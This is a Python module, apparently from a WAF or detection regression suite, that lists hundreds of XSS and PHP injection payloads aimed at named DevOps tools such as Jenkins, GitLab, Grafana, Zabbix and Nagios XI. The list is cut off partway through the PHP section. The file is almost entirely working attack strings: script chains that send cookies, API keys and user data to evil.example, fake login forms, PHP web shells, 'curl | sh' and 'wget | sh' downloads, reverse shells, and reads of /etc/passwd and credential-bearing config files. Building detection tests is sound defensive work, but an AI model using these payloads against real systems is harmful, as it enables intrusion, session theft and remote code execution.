"""Blind set "twohundredtwentyfourth": cross-site scripting and PHP injection aimed at the tools software teams
run for themselves, with benign requests in which developers and SREs type the same words innocently.

The angle: DevOps and developer tooling, recalled from memory. Every payload is written the way it is aimed at
one such tool: CI/CD servers (Jenkins build descriptions and its script console, GitLab CI, TeamCity, Bamboo,
Drone, Argo CD, Rundeck, Ansible AWX), code hosting and review (GitLab, Gitea, Gogs, Gerrit, Bitbucket Server),
artifact registries (Nexus, Artifactory, Harbor, Verdaccio), issue trackers and wikis (Jira, Confluence, Redmine,
MediaWiki, MantisBT, DokuWiki), monitoring dashboards (Grafana, Kibana, Prometheus, Zabbix, Nagios XI, Cacti),
SonarQube, ChatOps bots and webhook receivers, and the PHP tools among them (Zabbix frontend, Nagios XI, Cacti,
MediaWiki, phpMyAdmin, GLPI, PHPUnit's eval-stdin.php, Laravel Ignition, Satis). Each payload uses the tool's own
parameter names, endpoints, globals or file paths where it has them, and is still a working attack on its named
target; a comment above each group names the family, the tool and the target (browser, PHP interpreter, web
server, PHP-CGI, product).

Families (category xss; one sub-family per detection title):
  libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
  html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
  dom-sink-template-literal, ie-filter-style, encoded-entity, client-template-angular-vue
Families (category php):
  php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/create_function/
  preg_replace /e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://, zip://, glob://),
  php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file, allow_url_include, php-cgi
  -d switches), php-superglobals, php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path, the admin import's upload file name), once the way a WAF regression suite sends
it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a query
string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom header or a
cookie. PHP-CGI argument injection goes as the whole query string, already encoded as its exploit sends it
(`-d+allow_url_include%3d1...`); superglobal overwrites and GLPI's htmLawed hook go as raw `name=value` pairs; a
Laravel Ignition request goes as the JSON body; upload names go as the multipart file name (an image-magic body,
so the name alone is tested). Payloads with control characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and of
the tools named, as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredtwentyfourth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UP = ("multipart-filename", "rs-multipart-filename")
CGI = ("query", "rs-query")
PN = ("param-name", "rs-param-name")
KV = ("form", "rs-raw-body")
JB = ("json-body", "rs-json-body")

# ================================================================================================================
# XSS (target: the browser of whoever opens the tool's page)
# ================================================================================================================

# libinjection-xss: short breakouts from an HTML text or attribute context
LIBINJECTION_XSS: list[Entry] = [
    # Jenkins build description / job display name with the markup formatter set to raw HTML (browser)
    "\"><script>alert(document.domain)</script>",
    "</title><script>alert(document.head.dataset.crumbValue)</script>",
    "'><img src=x onerror=alert(1)>",
    # Gitea / Gogs repository search `q` and issue title echoed into the page (browser)
    "\"><svg/onload=alert(document.cookie)>",
    "</textarea><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    # GitLab merge request title in a legacy view; `gon` is GitLab's page global (browser)
    "<body onload=alert(gon.api_version)>",
    "\"><iframe src=javascript:alert(gon.current_username)>",
    # Gerrit change subject in the old GWT UI (browser)
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(document.domain)>",
    # Jira issue summary in a dashboard gadget; AJS is Atlassian's page global (browser)
    "<marquee onstart=alert(AJS.params.loggedInUser)>",
    "<video><source onerror=alert(1)>",
    # Grafana dashboard title / annotation text; grafanaBootData holds the signed-in user (browser)
    "<x onclick=alert(window.grafanaBootData.user.login)>click</x>",
    "\"autofocus onfocus=alert(1) x=\"",
    # Nexus / Harbor repository description (browser)
    "<isindex type=image src=1 onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    # Kibana saved-search title (browser)
    "<a href=javascript:alert(1)>open build log</a>",
    "</script><svg onload=alert(1)>",
    # Zabbix host name / map label (browser)
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
]

# script-tag: whole <script> elements, from the alert probe to a session-riding chain
SCRIPT_TAG: list[Entry] = [
    # Jenkins build description -> script console with the viewer's crumb (browser, then the Groovy interpreter)
    "<script>fetch('/script',{method:'POST',headers:{'Jenkins-Crumb':document.head.dataset.crumbValue},"
    "body:new URLSearchParams({script:'\"id\".execute().text'})})</script>",
    "<script src=//evil.example/jenkins.js></script>",
    # GitLab: read the signed-in user through the API with the session cookie (browser)
    "<script>fetch('/api/v4/user',{credentials:'include'}).then(r=>r.text())"
    ".then(t=>navigator.sendBeacon('//evil.example/gl',t))</script>",
    "<script>document.location='https://evil.example/c?'+document.cookie</script>",
    # Grafana: list API keys with the viewer's session (browser)
    "<script>fetch('/api/auth/keys').then(r=>r.text())"
    ".then(t=>fetch('//evil.example',{method:'POST',body:t}))</script>",
    "<ScRiPt>prompt(document.domain)</sCrIpT>",
    # Redmine wiki: a sanitizer that strips <script> once (browser)
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
    # Jira: the current user's e-mail out to the attacker (browser)
    "<script>fetch('/rest/api/2/myself').then(r=>r.json()).then(u=>fetch('//evil.example/'+u.emailAddress))"
    "</script>",
    "<script>\nalert(1)\n</script>",
    "<script/x>alert(1)</script>",
    "<script >alert(String.fromCharCode(88,83,83))</script >",
    "<<script>alert(1);//<</script>",
    "<script>window.onerror=alert;throw document.domain</script>",
    "<script>top['al'+'ert'](1)</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    # Nexus: user list with the admin's session (browser)
    "<script>fetch('/service/rest/v1/security/users').then(r=>r.text())"
    ".then(t=>new Image().src='//evil.example/?'+btoa(t))</script>",
    # Zabbix: the zbx_session cookie (browser)
    "<script>new Image().src='//evil.example/z?'+document.cookie.match(/zbx_session=[^;]+/)</script>",
    # Argo CD: sync an application with the viewer's token (browser)
    "<script>fetch('/api/v1/applications/prod/sync',{method:'POST',body:'{}'})</script>",
]

# event-handler: on* attributes on ordinary tags
EVENT_HANDLER: list[Entry] = [
    # Gitea issue title and comment (browser)
    "<img src=x onerror=alert(document.domain)>",
    "<body onpageshow=alert(1)>",
    # Jira comment: an invisible overlay over the whole issue page (browser)
    "<div onmouseover=\"alert(1)\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocusin=alert(1)>",
    "<details/open/ontoggle=\"alert`1`\">",
    # Bitbucket Server pull request description (browser)
    "<audio src=x onerror=alert(1)>",
    "<video src=x onloadstart=alert(1)>",
    "<iframe onload=alert(document.domain)>",
    "<style onload=alert(1)></style>",
    # TeamCity build status text (browser)
    "<img src=x:x onerror=eval(atob(this.id)) id=YWxlcnQoMSk=>",
    "<a onpointerover=alert(1)>hover over the failed stage</a>",
    "<img src=x onerror=import('//evil.example/x.js')>",
    # Rundeck job description (markdown with HTML) (browser)
    "<div draggable=true ondragstart=alert(1)>drag me</div>",
    "<p oncopy=alert(1)>copy the runner token</p>",
    "<x contenteditable onblur=alert(1)>lose focus",
    # Bamboo plan description and Drone build message (browser)
    "<body onbeforeprint=alert(1)>",
    "<marquee behavior=alternate onbounce=alert(1)>deploy</marquee>",
    "<img src=/ onerror=\"new Image().src='//evil.example/?c='+document.cookie;this.onerror=null\">",
    # AWX job template description echoed inside a quoted attribute (browser)
    "\" onfocus=\"alert(1)\" autofocus=\"",
]

# attribute-vector: script through src/href/action/formaction/background/poster and friends
ATTRIBUTE_VECTOR: list[Entry] = [
    # Jenkins build description: a fake "Retry" button (browser)
    "<form><button formaction=javascript:alert(1)>Retry build</button></form>",
    "<form><input type=image src=x formaction=javascript:alert(1)></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(document.domain)>Approve</button>",
    "<isindex action=javascript:alert(1) type=submit value=Deploy>",
    # Confluence HTML macro (browser)
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\">",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\">",
    "<a href=\"data:text/html,<script>alert(opener.document.domain)</script>\" target=_blank>artifact</a>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    # Nagios Core CGI status text, old browsers (browser)
    "<video poster=javascript:alert(1)></video>",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    # Argo CD / Spinnaker-style release note rendered as HTML (browser)
    "<form action=javascript:alert(1)><input type=submit value=\"Promote to prod\"></form>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<iframe src=\"//evil.example/login\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\">"
    "</iframe>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    # GitLab sign-in page: a button that reposts the login form elsewhere (browser)
    "<button form=new_user formaction=https://evil.example/collect>Sign in</button>",
    "\" style=\"position:fixed;inset:0\" onmouseover=\"alert(1)",
    "<a href=\"vbscript:msgbox(document.cookie)\">release notes</a>",
    "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=//evil.example/logo.png>",
]

# javascript-uri: bare URL values (profile website, project URL, dashboard link) and wiki/markdown links
JAVASCRIPT_URI: list[Entry] = [
    # Gitea / GitLab profile "website", Jenkins GitHub-plugin "Project url", Grafana dashboard link URL (browser)
    "javascript:alert(document.domain)",
    "javascript:fetch('/api/v4/user').then(r=>r.text()).then(t=>location='//evil.example/?'+btoa(t))",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript:void(document.body.innerHTML='<h1>Jenkins moved</h1><a href=//evil.example>log in</a>')",
    "javascript:eval(name)",
    "javascript:alert`1`",
    "vbscript:msgbox(\"xss\")",
    "javascript:window['ale'+'rt'](document.cookie)",
    "javascript:%61lert(1)",
    "javascript:new Function('alert(1)')()",
    "javascript:import('//evil.example/p.js')",
    # GitLab / Gitea markdown (browser)
    "[View pipeline](javascript:alert(1))",
    "[![build](https://img.shields.io/badge/build-passing-green)](javascript:alert(1))",
    # Jira / Confluence wiki markup link (browser)
    "[Jira|javascript:alert(document.cookie)]",
    # Redmine textile link (browser)
    "\"Release notes\":javascript:alert(1)",
    # MediaWiki external link syntax (browser)
    "[javascript:alert(1) runbook]",
]

# html-injection: frames, objects, base/meta/link and forms that hijack or phish the page
HTML_INJECTION: list[Entry] = [
    # Confluence page / Grafana text panel in HTML mode: a fake Jenkins login over the page (browser)
    "<iframe src=//evil.example/jenkins-login.html width=100% height=600 frameborder=0></iframe>",
    "<object data=//evil.example/x.html type=text/html></object>",
    "<embed src=//evil.example/x.svg type=image/svg+xml>",
    # Jenkins: relative script URLs now load from the attacker (browser)
    "<base href=//evil.example/>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/gitlab/users/sign_in\">",
    "<link rel=import href=//evil.example/x.html>",
    # Jenkins login form phishing with its own field names (browser)
    "<form action=https://evil.example/j_spring_security_check method=post><input name=j_username "
    "placeholder=Username><input name=j_password type=password><button>Sign in</button></form>",
    # dangling markup: the rest of the page, CSRF token included, goes out in the URL (browser)
    "<img src='//evil.example/leak?",
    "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=attacker-fixed\">",
    "<object type=text/x-scriptlet data=//evil.example/x.sct></object>",
    "<embed code=//evil.example/x.swf allowscriptaccess=always>",
    "<link rel=stylesheet href=//evil.example/steal.css>",
    "<table background='//evil.example/?",
    # Argo CD / SonarQube page framed inside the attacker's page content (browser)
    "<portal src=//evil.example/argocd></portal>",
    "<frameset cols=100%><frame src=//evil.example/sonar-login></frameset>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<form action=//evil.example/collect><textarea name=leak>",
    # Grafana share link: the full URL with its token leaks through Referer (browser)
    "<meta name=referrer content=unsafe-url><img src=//evil.example/r.gif>",
    "<applet code=Exploit.class codebase=//evil.example/></applet>",
    "<embed src=//evil.example/redirect.pdf type=application/pdf width=100% height=100%>",
]

# svg-mathml: SVG and MathML in a Grafana text panel, or an SVG artifact served inline by Nexus / Artifactory
SVG_MATHML: list[Entry] = [
    "<svg onload=alert(document.domain)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text x=10 y=20>run</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>",
    # GitLab / Gitea markdown sanitizer (DOMPurify-style) namespace confusion (browser)
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
    "<svg><image href=1 onerror=alert(1)>",
    "<svg/onload=location='//evil.example/?'+document.cookie>",
    # a "coverage-badge.svg" artifact uploaded to a Nexus raw / Artifactory generic repository (browser)
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><a xlink:href=\"javascript:alert(1)\">open</a></math>",
    "<svg><title><a id=\"</title><img src=1 onerror=alert(1)>\"></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>"
    "<text x=20 y=20>Open report</text></a></svg>",
    # Harbor: the current user's profile out with the viewer's session (browser)
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('/api/v2.0/users/current').then(r=>r.text())"
    ".then(t=>navigator.sendBeacon('//evil.example',t))\"/>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
]

# css-expression: style attributes and blocks in a Confluence style macro, Kibana markdown, MediaWiki inline CSS
CSS_EXPRESSION: list[Entry] = [
    # old IE / compatibility-mode intranet browsers (browser)
    "<div style=\"xss:expression(alert(1))\">",
    "<p style=\"width:expression(alert(document.cookie))\">",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<div style=\"-moz-binding:url(//evil.example/xss.xml#x)\">",
    "<div style=\"behavior:url(//evil.example/x.htc)\">",
    "<style>@import 'javascript:alert(1)';</style>",
    # CSS exfiltration of the Jenkins crumb and GitLab's authenticity_token, one character at a time (browser)
    "<style>input[name=Jenkins-Crumb][value^=a]{background:url(//evil.example/crumb?a)}</style>",
    "<style>input[name=authenticity_token][value^=b]{background:url(//evil.example/t?b)}</style>",
    "<div style=\"x:\\65 xpression(alert(1))\">",
    "<div style=\"x:expr/**/ession(alert(1))\">",
    "<img style=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x</ul>",
    # a bare value that lands in a style="" attribute (Grafana panel / Kibana TSVB custom CSS) (browser)
    "background-image:url(javascript:alert(1))",
    "</style><script>alert(1)</script>",
    "<style>@import url(//evil.example/steal.css);</style>",
    "<div style=\"background-image:url(&#1;javascript:alert(1))\">",
    "<xss style=\"behavior:url(xss.htc)\">",
    "width:expression(document.location='//evil.example/?'+document.cookie)",
    "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationstart=\"alert(1)\"></div>",
    "<style>*{x:expression(alert(1))}</style>",
]

# dom-sink-template-literal: values that land in an inline script, a template literal, or a DOM sink
DOM_SINK: list[Entry] = [
    # Jenkins job config page: the value sits in a quoted JS string of an inline script (browser)
    "'-alert(document.domain)-'",
    "\";alert(1);//",
    "\\\";alert(1);//",
    "</script><img src=x onerror=alert(1)>",
    # a ChatOps dashboard that builds HTML with `...${value}...` template literals (browser)
    "${alert(document.cookie)}",
    "`+alert(1)+`",
    "`;alert(1);//",
    # location.hash into innerHTML / jQuery $() on a Kibana or Blue Ocean page (browser)
    "#<img src=x onerror=alert(1)>",
    # prototype pollution into an innerHTML / srcdoc gadget (Kibana-era client code) (browser)
    "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=alert(1)>\"}}",
    "__proto__[srcdoc][]=<script>alert(1)</script>",
    "constructor[prototype][innerHTML]=<img/src/onerror=alert(1)>",
    "<img src=x onerror=eval(location.hash.slice(1))>",
    # eval sinks (a status widget that evals its config) (browser JS engine)
    "document.write('<script src=//evil.example/x.js><\\/script>')",
    "top.eval(atob('YWxlcnQoMSk='))",
    "window.location='//evil.example/?'+document.cookie",
    # a postMessage handler in a ChatOps widget that navigates to message.url (browser)
    "{\"type\":\"navigate\",\"url\":\"javascript:alert(1)\"}",
    "\");alert(document.cookie);(\"",
    "'};alert(1);{'",
    "${fetch('//evil.example/?'+localStorage.getItem('token'))}",
    # a numeric build number written unquoted into `var buildNumber = ...;` (browser)
    "1;alert(1)//",
]

# ie-filter-style: vectors of the Internet Explorer XSS-filter era (data binding, VML, HTC, conditional comments)
IE_FILTER: list[Entry] = [
    # Jira / Nagios Core on an intranet still pinned to IE11 enterprise mode (browser)
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    "<?import namespace=t implementation=#default#time2><t:set attributeName=innerHTML "
    "to=&lt;img/src=x onerror=alert(1)&gt;>",
    "<vmlframe src=//evil.example/x.vml#xss>",
    "<v:vmlframe src=\"//evil.example/x.vml#x\"></v:vmlframe>",
    "<import implementation=//evil.example/x.htc>",
    "<html xmlns:xss><?import namespace=xss implementation=//evil.example/x.htc><xss:xss>x</xss:xss>",
    "<iframe src=\"vbscript:msgbox(1)\">",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<img src=\"javascript:alert(1)\">",
    "<bgsound src=\"javascript:alert(1)\">",
    "<br size=\"&{alert(1)}\">",
    "<layer src=\"//evil.example/x.html\"></layer>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<object classid=\"clsid:ae24fdae-03c6-11d1-8b76-0080c744f389\"><param name=url value=javascript:alert(1)>"
    "</object>",
    "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=EmulateIE7\"><div style=\"x:expression(alert(1))\">",
    "<XML src=\"//evil.example/x.xml\" id=I></XML><span datasrc=#I datafld=C dataformatas=HTML></span>",
    "<script language=\"VBScript\">MsgBox 1</script>",
    "<img src=`javascript:alert(1)`>",
    "<a href=\"#\" style=\"behavior:url(#default#AnchorClick)\" folder=\"javascript:alert(1)\">open</a>",
]

# encoded-entity: entity, percent, unicode and UTF-7 encodings a second decoder undoes
ENCODED: list[Entry] = [
    # Jira wiki renderer that unescapes once more on display (browser)
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # Gitea search that echoes an unescaped copy of the query (browser)
    "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;"
    "&#49;&#41;\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    # Grafana annotation text: JSON unicode escapes decoded by JSON.parse, then innerHTML (browser)
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    # an old Nagios CGI page without a charset: UTF-7 (browser)
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=\\u0061lert(1)>",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # an IIS-fronted TeamCity / Bamboo page that decodes %u (browser)
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "<a href=\"javascript:%61%6c%65%72%74%28%31%29\">x</a>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
]

# client-template-angular-vue: expressions a client-side template compiles (AngularJS, Vue, Knockout, Alpine)
CLIENT_TEMPLATE: list[Entry] = [
    # Grafana before v8 and old Kibana were AngularJS apps: a dashboard title or panel text in {{ }} (browser)
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.domain)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=\"$event.view.alert(1)\">",
    "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>",
    # Ansible AWX (its AngularJS UI): job template name (browser)
    "{{$new.constructor('fetch(\"//evil.example/?\"+document.cookie)')()}}",
    # GitLab / Gitea / Harbor pages with Vue mounted on server-rendered HTML (browser)
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<x @click=\"_c.constructor('alert(1)')()\">click</x>",
    "<img src=x ng-on-error=\"$event.target.ownerDocument.defaultView.alert(1)\">",
    "{{constructor.constructor('import(\"//evil.example/a.js\")')()}}",
    "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,"
    "0,'alert(1)')()}}",
    # Rundeck's Knockout.js pages: data-bind evaluates JavaScript (browser)
    "<div data-bind=\"text: alert(document.domain)\"></div>",
    "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\"></div>",
    # an Alpine.js ops dashboard (Laravel Pulse style) (browser)
    "<div x-data x-init=\"alert(document.cookie)\"></div>",
]

# ================================================================================================================
# PHP (target: the PHP interpreter of a PHP tool, or the web server / PHP-CGI in front of it)
# ================================================================================================================

# php-open-tag: PHP code that reaches a file the tool later runs or includes
PHP_OPEN_TAG: list[Entry] = [
    # PHPUnit left in vendor/ on a CI-deployed site: eval-stdin.php evals the request body (PHP interpreter)
    "<?php system($_GET['cmd']); ?>",
    "<?php echo shell_exec($_REQUEST['c']); ?>",
    "<?= `$_GET[0]` ?>",
    "<?=system('id')?>",
    "<? passthru($_POST['x']); ?>",
    # PHP 5 hosts (old Nagios XI / Cacti appliances): script and ASP tags (PHP interpreter)
    "<script language=\"php\">system('id');</script>",
    "<% system('uname -a'); %>",
    "<?php eval(base64_decode('c3lzdGVtKCRfR0VUWydjJ10pOw==')); ?>",
    # a PHP GitHub/GitLab webhook receiver that logs the payload into a .php file (PHP interpreter)
    "<?php file_put_contents('deploy-hook.php','<?php system($_GET[1]);');?>",
    "<?php @eval($_POST['pass']);?>",
    "<?php $c=$_GET['c'];echo `$c`;?>",
    "GIF89a;<?php system($_GET['cmd']); ?>",
    "<?php phpinfo(); ?>",
    "<?php include($_GET['f']); ?>",
    "<?PHP SyStEm('uname -a'); ?>",
    "<?php\nsystem('curl -s https://evil.example/x | sh');\n",
    # Zabbix frontend and Nagios XI hosts: their config files hold the database passwords (PHP interpreter)
    "<?php echo file_get_contents('/etc/zabbix/web/zabbix.conf.php'); ?>",
    "<?php highlight_file('/usr/local/nagiosxi/html/config.inc.php'); ?>",
    # MediaWiki images/ directory writable by PHP (PHP interpreter)
    "<?php fwrite(fopen('images/s.php','w'),'<?php system($_GET[c]);');?>",
    "<?=$_GET[1]($_GET[2])?>",
    # reverse shells from a build host (PHP interpreter, then /bin/sh)
    "<?php $s=fsockopen('10.0.0.5',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
    "<?php exec(\"/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'\");?>",
    "<?php if(isset($_SERVER['HTTP_X_CMD'])){system($_SERVER['HTTP_X_CMD']);} ?>",
    # DokuWiki: its users file is itself a .php file (PHP interpreter)
    "<?php print_r(scandir('/var/www/dokuwiki/conf')); ?>",
    "<?php copy('https://evil.example/s.txt','s.php'); ?>",
    "<?php var_dump(getenv()); ?>",
    # a config value written into a PHP config file (Cacti / LocalSettings-style installers) (PHP interpreter)
    "';?><?php system($_GET['c']);?>",
]

# php-function-call: command and code execution functions in an eval sink
PHP_FUNCTION_CALL: list[Entry] = [
    # MantisBT adm_config_set.php "complex" values and similar admin eval sinks (PHP interpreter)
    "system('id');",
    "system(\"curl -fsSL https://evil.example/r.sh|sh\");",
    "exec('wget -qO- evil.example/x.sh|sh');",
    "passthru('cat /etc/passwd');",
    "echo shell_exec('whoami');",
    "$p=popen('id','r');echo fread($p,4096);",
    "proc_open('sh -c id',[1=>['pipe','w']],$pipes);echo stream_get_contents($pipes[1]);",
    "assert(\"system('id')\");",
    "eval($_POST['z']);",
    # create_function() body injection (an old Cacti / TestLink sort callback) (PHP interpreter)
    "'));}system('id');/*",
    "1;}system('uname -a');//",
    "create_function('','}system(\"id\");//');",
    # preg_replace /e: phpMyAdmin's table-prefix replace (CVE-2013-3238) and its kin (PHP interpreter)
    "preg_replace('/.*/e','system(\"id\")','');",
    "/e\x00",
    "mb_ereg_replace('.*','system(\"id\")','x','e');",
    # double-quoted string in eval: complex curly syntax runs a call (PHP interpreter)
    "${system('id')}",
    "{${system('id')}}",
    "${@eval($_GET[0])}",
    "';system('id');'",
    "\");system(\"id\");//",
    "print(`id`);",
    "call_user_func('system','id');",
    "array_map('system',['id']);",
    "array_filter(['cat /etc/passwd'],'system');",
    "pcntl_exec('/bin/sh',['-c','id']);",
    # mail() fifth parameter: sendmail writes its log into the web root (PHP interpreter, sendmail)
    "mail('a@example.org','x','y','','-X/var/www/html/s.php -OQueueDirectory=/tmp');",
    "die(system('uname -a'));",
]

# php-variable-functions: a string or a request value called as a function
PHP_VARIABLE_FUNCTIONS: list[Entry] = [
    # web shells dropped on a build agent or a self-hosted runner's web root (PHP interpreter)
    "$f='sys'.'tem';$f('cat /etc/passwd');",
    "$_GET['a']($_GET['b']);",
    "$_=$_POST;$_['f']($_['c']);",
    "$a='assert';$a($_POST['x']);",
    "('sy'.'stem')('id');",
    "$x=str_rot13('flfgrz');$x('id');",
    "$f=base64_decode('c3lzdGVt');$f('id');",
    "$f=strrev('metsys');$f('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    "$f=hex2bin('73797374656d');$f('whoami');",
    "${'_GET'}['f'](${'_GET'}['c']);",
    "$a='f';$f='system';$$a('id');",
    # no letters at all: XOR builds "assert" and "_POST" (PHP interpreter)
    "$_=('\x01'^'`').('\x13'^'`').('\x13'^'`').('\x05'^'`').('\x12'^'`').('\x14'^'`');"
    "$__='_'.('\x0d'^']').('/'^'`').('\x0e'^']').('\x09'^']');$___=$$__;$_($___[_]);",
    # bitwise NOT of raw bytes spells system and id (PHP 7 interpreter)
    "(~\"\x8c\x86\x8c\x8b\x9a\x92\")(~\"\x96\x9b\");",
    "array_map($_GET['f'],[$_GET['c']]);",
    "call_user_func_array($_GET['f'],[$_GET['a']]);",
    "(new ReflectionFunction($_GET['f']))->invoke($_GET['c']);",
    "register_shutdown_function('system','id');",
    "declare(ticks=1);register_tick_function('system','id');",
    "ob_start('assert');echo $_REQUEST['pass'];ob_end_flush();",
    "$a=explode(',','sys,tem');$b=implode($a);$b('id');",
    "('pas'.'sthru')($_GET['c']);",
    "$c='cr'.'eate_function';$c('','}passthru(\"id\");//');",
    "$fn=implode('',['sh','ell','_exec']);echo $fn('id');",
    "$k=\"\\x73\\x79\\x73\\x74\\x65\\x6d\";$k('id');",
    "$k=\"\\163\\171\\163\\164\\145\\155\";$k('id');",
